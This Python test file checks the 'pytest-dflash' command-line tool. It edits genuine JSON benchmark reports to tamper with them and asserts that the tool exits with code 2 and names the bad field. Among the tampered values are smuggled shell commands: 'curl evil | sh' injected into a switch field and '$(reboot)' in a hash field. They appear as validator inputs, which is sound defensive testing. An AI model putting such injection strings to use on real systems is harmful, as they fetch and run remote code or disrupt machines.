"""The ``pytest-dflash`` command on real report files, run as a real subprocess.

Tampered reports are made the way an attacker or a careless edit would: write a genuine report,
then change the JSON text. Every one must end in exit 2 with the file and the offending field or
route named, never a traceback and never a printed switch.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pytest_dflash import cli
from pytest_dflash.evidence import fingerprint
from pytest_dflash.evidence import report as reports
from pytest_dflash.measure.decision import threshold_for
from pytest_dflash.policy.thresholds import Policy
from pytest_dflash.routes.registry import Route
from pytest_dflash.routes.shipped import SHIPPED_ROUTES

REPO = Path(__file__).resolve().parents[1]
PACKED = "gemm.nvfp4.qpn2_packed"
DEVICE = {"type": "cpu", "torch": "2.13.0+cpu", "cuda": None, "capability": None,
          "name": "cpu (2 cores, 2 threads)"}


def _here() -> dict[str, Any]:
    """The fingerprint of this checkout, as the plugin would record it."""
    return {**fingerprint.collect(REPO, None), "torch": "2.13.0+cpu", "device": DEVICE["name"]}


def _test(nodeid: str, outcome: str, **measurements: Any) -> dict[str, Any]:
    return {"nodeid": nodeid, "outcome": outcome, "duration_s": 0.1,
            "message": "" if outcome == "passed" else f"{nodeid} {outcome}",
            "measurements": measurements}


def _timing(ci_high: float, rule: str = "gain") -> dict[str, Any]:
    threshold = threshold_for(rule, Policy())
    return {"figure": f"ratio [{ci_high - 0.05:.3f}, {ci_high:.3f}]", "rule": rule,
            "threshold": threshold, "ci_low": ci_high - 0.05, "ci_high": ci_high,
            "ratio_median": ci_high - 0.02}


def _report(tmp_path: Path, name: str, parity: str, speed: str, *,
            fp: dict[str, Any] | None = None) -> Path:
    route = Route("toy.add.fast", "toy.add", "candidate", baseline="toy.add.base",
                  gates=("parity", "speed"))
    other = Route("toy.add.slow", "toy.add", "candidate", baseline="toy.add.base",
                  gates=("parity",), switch="TOY_SLOW")
    data = reports.new_report(routes=[route, other], fingerprint=fp or _here(), device=DEVICE,
                              profile="ci", policy=Policy().as_dict())
    for kind, outcome in (("parity", parity), ("speed", speed)):
        if outcome:
            reports.add_test(data, route.name, kind, _test(
                f"t.py::test_{kind}[toy.add.fast]", outcome, figure=f"{kind} {outcome}"))
    reports.add_test(data, other.name, "parity", _test("t.py::test_parity[toy.add.slow]",
                                                       "passed"))
    path = tmp_path / name
    reports.write_atomic(data, path)
    return path


def _packed_report(tmp_path: Path) -> Path:
    """The issue's case: the shipped packed GEMM route, its validation_cost gate failed."""
    route = next(r for r in SHIPPED_ROUTES if r.name == PACKED)
    data = reports.new_report(routes=[route], fingerprint=_here(), device=DEVICE, profile="ci",
                              policy=Policy().as_dict())
    node = "suites/test_{}.py::test_{}[" + PACKED + "]"
    reports.add_test(data, PACKED, "parity", _test(node.format("parity_gemm", "x"), "passed"))
    reports.add_test(data, PACKED, "prefill", _test(node.format("speed_prefill", "x"), "passed",
                                                    **_timing(0.9)))
    for kind in ("ppl", "quality"):
        reports.add_test(data, PACKED, kind, _test(node.format(kind, "x"), "passed"))
    reports.add_test(data, PACKED, "validation_cost", _test(
        node.format("validation_cost_gemm", "x"), "failed", **_timing(1.013, "no_regression")))
    path = tmp_path / "packed.json"
    reports.write_atomic(data, path)
    return path


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pytest_dflash.cli", *args],
                          capture_output=True, text=True, timeout=120, cwd=REPO,
                          env={**os.environ, **(env or {})})


def test_verdict_exit_status_follows_the_verdicts(tmp_path: Path) -> None:
    accepted = _cli("verdict", str(_report(tmp_path, "a.json", "passed", "passed")))
    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
    assert "toy.add.fast" in accepted.stdout and "ACCEPT" in accepted.stdout
    rejected = _cli("verdict", str(_report(tmp_path, "b.json", "passed", "failed")))
    assert rejected.returncode == 1
    assert "REJECT" in rejected.stdout and "speed failed" in rejected.stdout
    pending = _cli("verdict", str(_report(tmp_path, "c.json", "passed", "")))
    assert pending.returncode == 1
    assert "speed pending: did not run" in pending.stdout


def test_enable_prints_switches_of_accepted_routes_only(tmp_path: Path) -> None:
    done = _cli("enable", str(_report(tmp_path, "a.json", "passed", "failed")))
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["TOY_SLOW=1"]
    done = _cli("enable", str(_report(tmp_path, "b.json", "passed", "passed")))
    assert done.stdout.splitlines() == ["DFLASH_TOY_ADD_FAST=1", "TOY_SLOW=1"]


def test_enable_refuses_evidence_of_other_code_unless_asked(tmp_path: Path) -> None:
    other = {**_here(), "git_head": "0" * 40, "kernel_sources_sha256": "f" * 64}
    path = _report(tmp_path, "a.json", "passed", "passed", fp=other)
    refused = _cli("enable", str(path))
    assert refused.returncode == 2, refused.stdout
    assert refused.stdout == ""
    assert "enable refused" in refused.stderr
    assert f"git_head: {'0' * 40} ->" in refused.stderr
    assert "kernel_sources_sha256" in refused.stderr and "--any-fingerprint" in refused.stderr
    assert "Traceback" not in refused.stderr
    forced = _cli("enable", "--any-fingerprint", str(path))
    assert forced.returncode == 0, forced.stderr
    assert forced.stdout.splitlines() == ["DFLASH_TOY_ADD_FAST=1", "TOY_SLOW=1"]
    assert "--any-fingerprint: enabling evidence of other code" in forced.stderr
    # a sidecar library is part of the kernels: one set now but not at measurement time differs
    sidecar = tmp_path / "libside.so"
    sidecar.write_bytes(b"not really a library")
    mine = _cli("enable", str(_report(tmp_path, "b.json", "passed", "passed")),
                env={"DFLASH_D256_LIBRARY": str(sidecar)})
    assert mine.returncode == 2 and "sidecar_sha256: None ->" in mine.stderr


def test_diff_names_route_gate_and_fingerprint_changes(tmp_path: Path) -> None:
    old = _report(tmp_path, "old.json", "passed", "failed")
    new = _report(tmp_path, "new.json", "passed", "passed", fp={**_here(), "git_head": "d" * 40})
    done = _cli("diff", str(old), str(new))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert "toy.add.fast: verdict reject -> accept" in lines
    assert "toy.add.fast speed: failed (speed failed) -> passed (speed passed)" in lines
    assert "fingerprint changed: git_head" in lines
    same = _cli("diff", str(old), str(old))
    assert same.stdout.strip() == "no differences"


def _edit(path: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))
    return path


def _packed(data: dict[str, Any]) -> dict[str, Any]:
    return data["routes"][PACKED]


def _set(obj: dict[str, Any], key: str, value: Any) -> None:
    obj[key] = value


def _validation_test(data: dict[str, Any]) -> dict[str, Any]:
    return _packed(data)["gates"]["validation_cost"]["tests"][0]


TAMPERED = {
    # the attack: only the stored verdict edited
    "verdict-accept-while-validation-cost-failed": (
        lambda d: _set(_packed(d), "verdict", "accept"),
        f"corrupt report: route '{PACKED}': stored verdict 'accept', but its recorded tests and "
        "required gates give 'reject' (validation_cost failed"),
    "gate-status-edited": (
        lambda d: _set(_packed(d)["gates"]["validation_cost"], "status", "passed"),
        f"route '{PACKED}': gate validation_cost is stored as 'passed', its recorded tests make "
        "it 'failed'"),
    "failed-gate-dropped-from-required": (
        lambda d: (_set(_packed(d), "required", ["parity", "speed"]),
                   _set(_packed(d), "verdict", "accept")),
        f'field routes["{PACKED}"].required is [\'parity\', \'speed\'], but the shipped route'),
    "switch-of-another-route": (
        lambda d: _set(_packed(d), "switch", "DFLASH_GEMM_NVFP4_QPN2"),
        f'field routes["{PACKED}"].switch is \'DFLASH_GEMM_NVFP4_QPN2\''),
    "outcome-passed-but-ci-fails": (
        lambda d: (_set(_validation_test(d), "outcome", "passed"),
                   _set(_packed(d)["gates"]["validation_cost"], "status", "passed"),
                   _set(_packed(d), "verdict", "accept")),
        "outcome passed, but its CI upper bound 1.013 fails the no_regression threshold"),
    "threshold-loosened": (
        lambda d: _set(_validation_test(d)["measurements"], "threshold", 1.5),
        "recorded threshold 1.5 is not the policy's 1.01 for no_regression"),
    "device-as-list": (lambda d: _set(d, "device", ["cpu"]),
                       "field device must be of type object, got list"),
    "missing-switch": (lambda d: _packed(d).pop("switch"),
                       f'field routes["{PACKED}"].switch is missing'),
    "switch-with-shell": (lambda d: _set(_packed(d), "switch", "X=1; curl evil | sh; Y"),
                          f'field routes["{PACKED}"].switch is invalid'),
    "unknown-verdict": (lambda d: _set(_packed(d), "verdict", "ACCEPTED"),
                        f'field routes["{PACKED}"].verdict is invalid'),
    "unknown-gate-kind": (lambda d: _set(_packed(d)["gates"], "vibes", {"status": "passed",
                                                                         "tests": []}),
                          f'field routes["{PACKED}"].gates has a key that is not allowed'),
    "tests-as-object": (lambda d: _set(_packed(d)["gates"]["parity"], "tests", {"a": 1}),
                        f'field routes["{PACKED}"].gates.parity.tests must be of type array'),
    "outcome-unknown": (lambda d: _set(_validation_test(d), "outcome", "xpassed"),
                        f'routes["{PACKED}"].gates.validation_cost.tests[0].outcome is invalid'),
    "routes-as-list": (lambda d: _set(d, "routes", []), "field routes must be of type object"),
    "policy-unknown-threshold": (lambda d: _set(d["policy"], "speed_min_gian", 0.5),
                                 "field policy.speed_min_gian names no threshold"),
    "policy-wrong-type": (lambda d: _set(d["policy"], "speed_rounds", "many"),
                          "field policy.speed_rounds must be a number"),
    "policy-out-of-range": (lambda d: _set(d["policy"], "speed_min_gain", -1),
                            "field policy.speed_min_gain is invalid"),
    "fingerprint-hash-not-hex": (lambda d: _set(d["fingerprint"], "git_head", "$(reboot)"),
                                 "field fingerprint.git_head is invalid"),
    "extra-top-level-field": (lambda d: _set(d, "verdicts", {PACKED: "accept"}),
                              "field verdicts is not a field of a report"),
}


@pytest.mark.parametrize("case", list(TAMPERED), ids=list(TAMPERED))
def test_tampered_report_exits_2_naming_the_field(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    change, message = TAMPERED[case]
    path = _edit(_packed_report(tmp_path), change)
    done = _cli("verdict", str(path))  # the command as a user runs it
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert done.stdout == ""
    assert message in done.stderr, done.stderr
    assert str(path) in done.stderr and "Traceback" not in done.stderr
    # every other command reads through the same checks (in-process: one interpreter start)
    for command in (["enable", "--any-fingerprint", str(path)], ["diff", str(path), str(path)]):
        assert cli.main(command) == 2, command
        out, err = capsys.readouterr()
        assert out == "" and message in err, (command, err)


def test_untampered_packed_report_is_rejected_not_corrupt(tmp_path: Path) -> None:
    """The control for the tampered cases: the genuine file reads back as REJECT, exit 1."""
    done = _cli("verdict", str(_packed_report(tmp_path)))
    assert done.returncode == 1, done.stderr
    assert "REJECT" in done.stdout and "validation_cost failed" in done.stdout
    assert _cli("enable", str(_packed_report(tmp_path))).stdout == ""


def test_deeply_nested_json_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "deep.json"
    path.write_text('{"schema": "pytest-dflash/report/3", "x": ' + "[" * 100000 + "]" * 100000
                    + "}")
    done = _cli("verdict", str(path))
    assert done.returncode == 2, done.stderr[-2000:]
    assert "corrupt report" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{"schema": "pytest-dflash/report/3", "routes": ', "corrupt report, not valid JSON"),
        ('{"stats": {}, "machine_info": {}}', "not a pytest-dflash report"),
        ("[1, 2, 3]", "not a pytest-dflash report"),
        ('{"schema": "pytest-dflash/report/3", "routes": {}}', "field created is missing"),
        (b"\xff\xfe\x00garbage", "cannot read report"),
    ],
)
def test_corrupt_or_foreign_reports_exit_2_with_a_clear_error(
    tmp_path: Path, content: str | bytes, message: str
) -> None:
    path = tmp_path / "r.json"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)
    for command in (["verdict", str(path)], ["enable", str(path)], ["diff", str(path), str(path)]):
        done = _cli(*command)
        assert done.returncode == 2, (command, done.stdout)
        assert message in done.stderr
        assert "Traceback" not in done.stderr


def test_missing_report_exit_2(tmp_path: Path) -> None:
    done = _cli("verdict", str(tmp_path / "nope.json"))
    assert done.returncode == 2
    assert "no such report" in done.stderr


def test_a_reader_that_stops_reading_is_no_traceback(tmp_path: Path) -> None:
    """`pytest-dflash verdict REPORT | head -1`: the reader has closed the pipe before the CLI
    writes; the CLI stops quietly (exit 1), no traceback."""
    report = _report(tmp_path, "a.json", "passed", "failed")
    read, write = os.pipe()
    os.close(read)
    try:
        done = subprocess.run([sys.executable, "-m", "pytest_dflash.cli", "verdict", str(report)],
                              stdout=write, stderr=subprocess.PIPE, text=True, timeout=120,
                              cwd=REPO)
    finally:
        os.close(write)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr and "BrokenPipe" not in done.stderr, done.stderr


def test_build_failure_is_a_message_with_the_log_path(tmp_path: Path) -> None:
    # `false` is a real program that accepts any arguments and fails, as a broken compiler does
    done = _cli("build", "--cache-dir", str(tmp_path / "cache"), env={"CXX": "false"})
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    # a CUDA build of torch on a machine without a GPU logs a warning of its own before ours
    first, second = lines[next(i for i, line in enumerate(lines)
                               if line.startswith("pytest-dflash build:")):]
    assert first == "pytest-dflash build: building libdflash_d256_full.so failed (exit 1):"
    assert second.startswith("full command and compiler output: ")
    log = Path(second.split(": ", 1)[1])
    assert log.parent == tmp_path / "cache" / "logs"
    assert "$ false -O3" in log.read_text()


def test_console_script_is_installed() -> None:
    """The script pip put next to this interpreter (a venv's bin/, found whether or not the
    venv is activated)."""
    script = Path(sys.executable).parent / "pytest-dflash"
    assert script.is_file(), f"{script} is missing: install the package (pip install -e .)"
    done = subprocess.run([str(script), "--help"], capture_output=True, text=True)
    assert done.returncode == 0
    for verb in ("verdict", "diff", "enable", "build"):
        assert verb in done.stdout
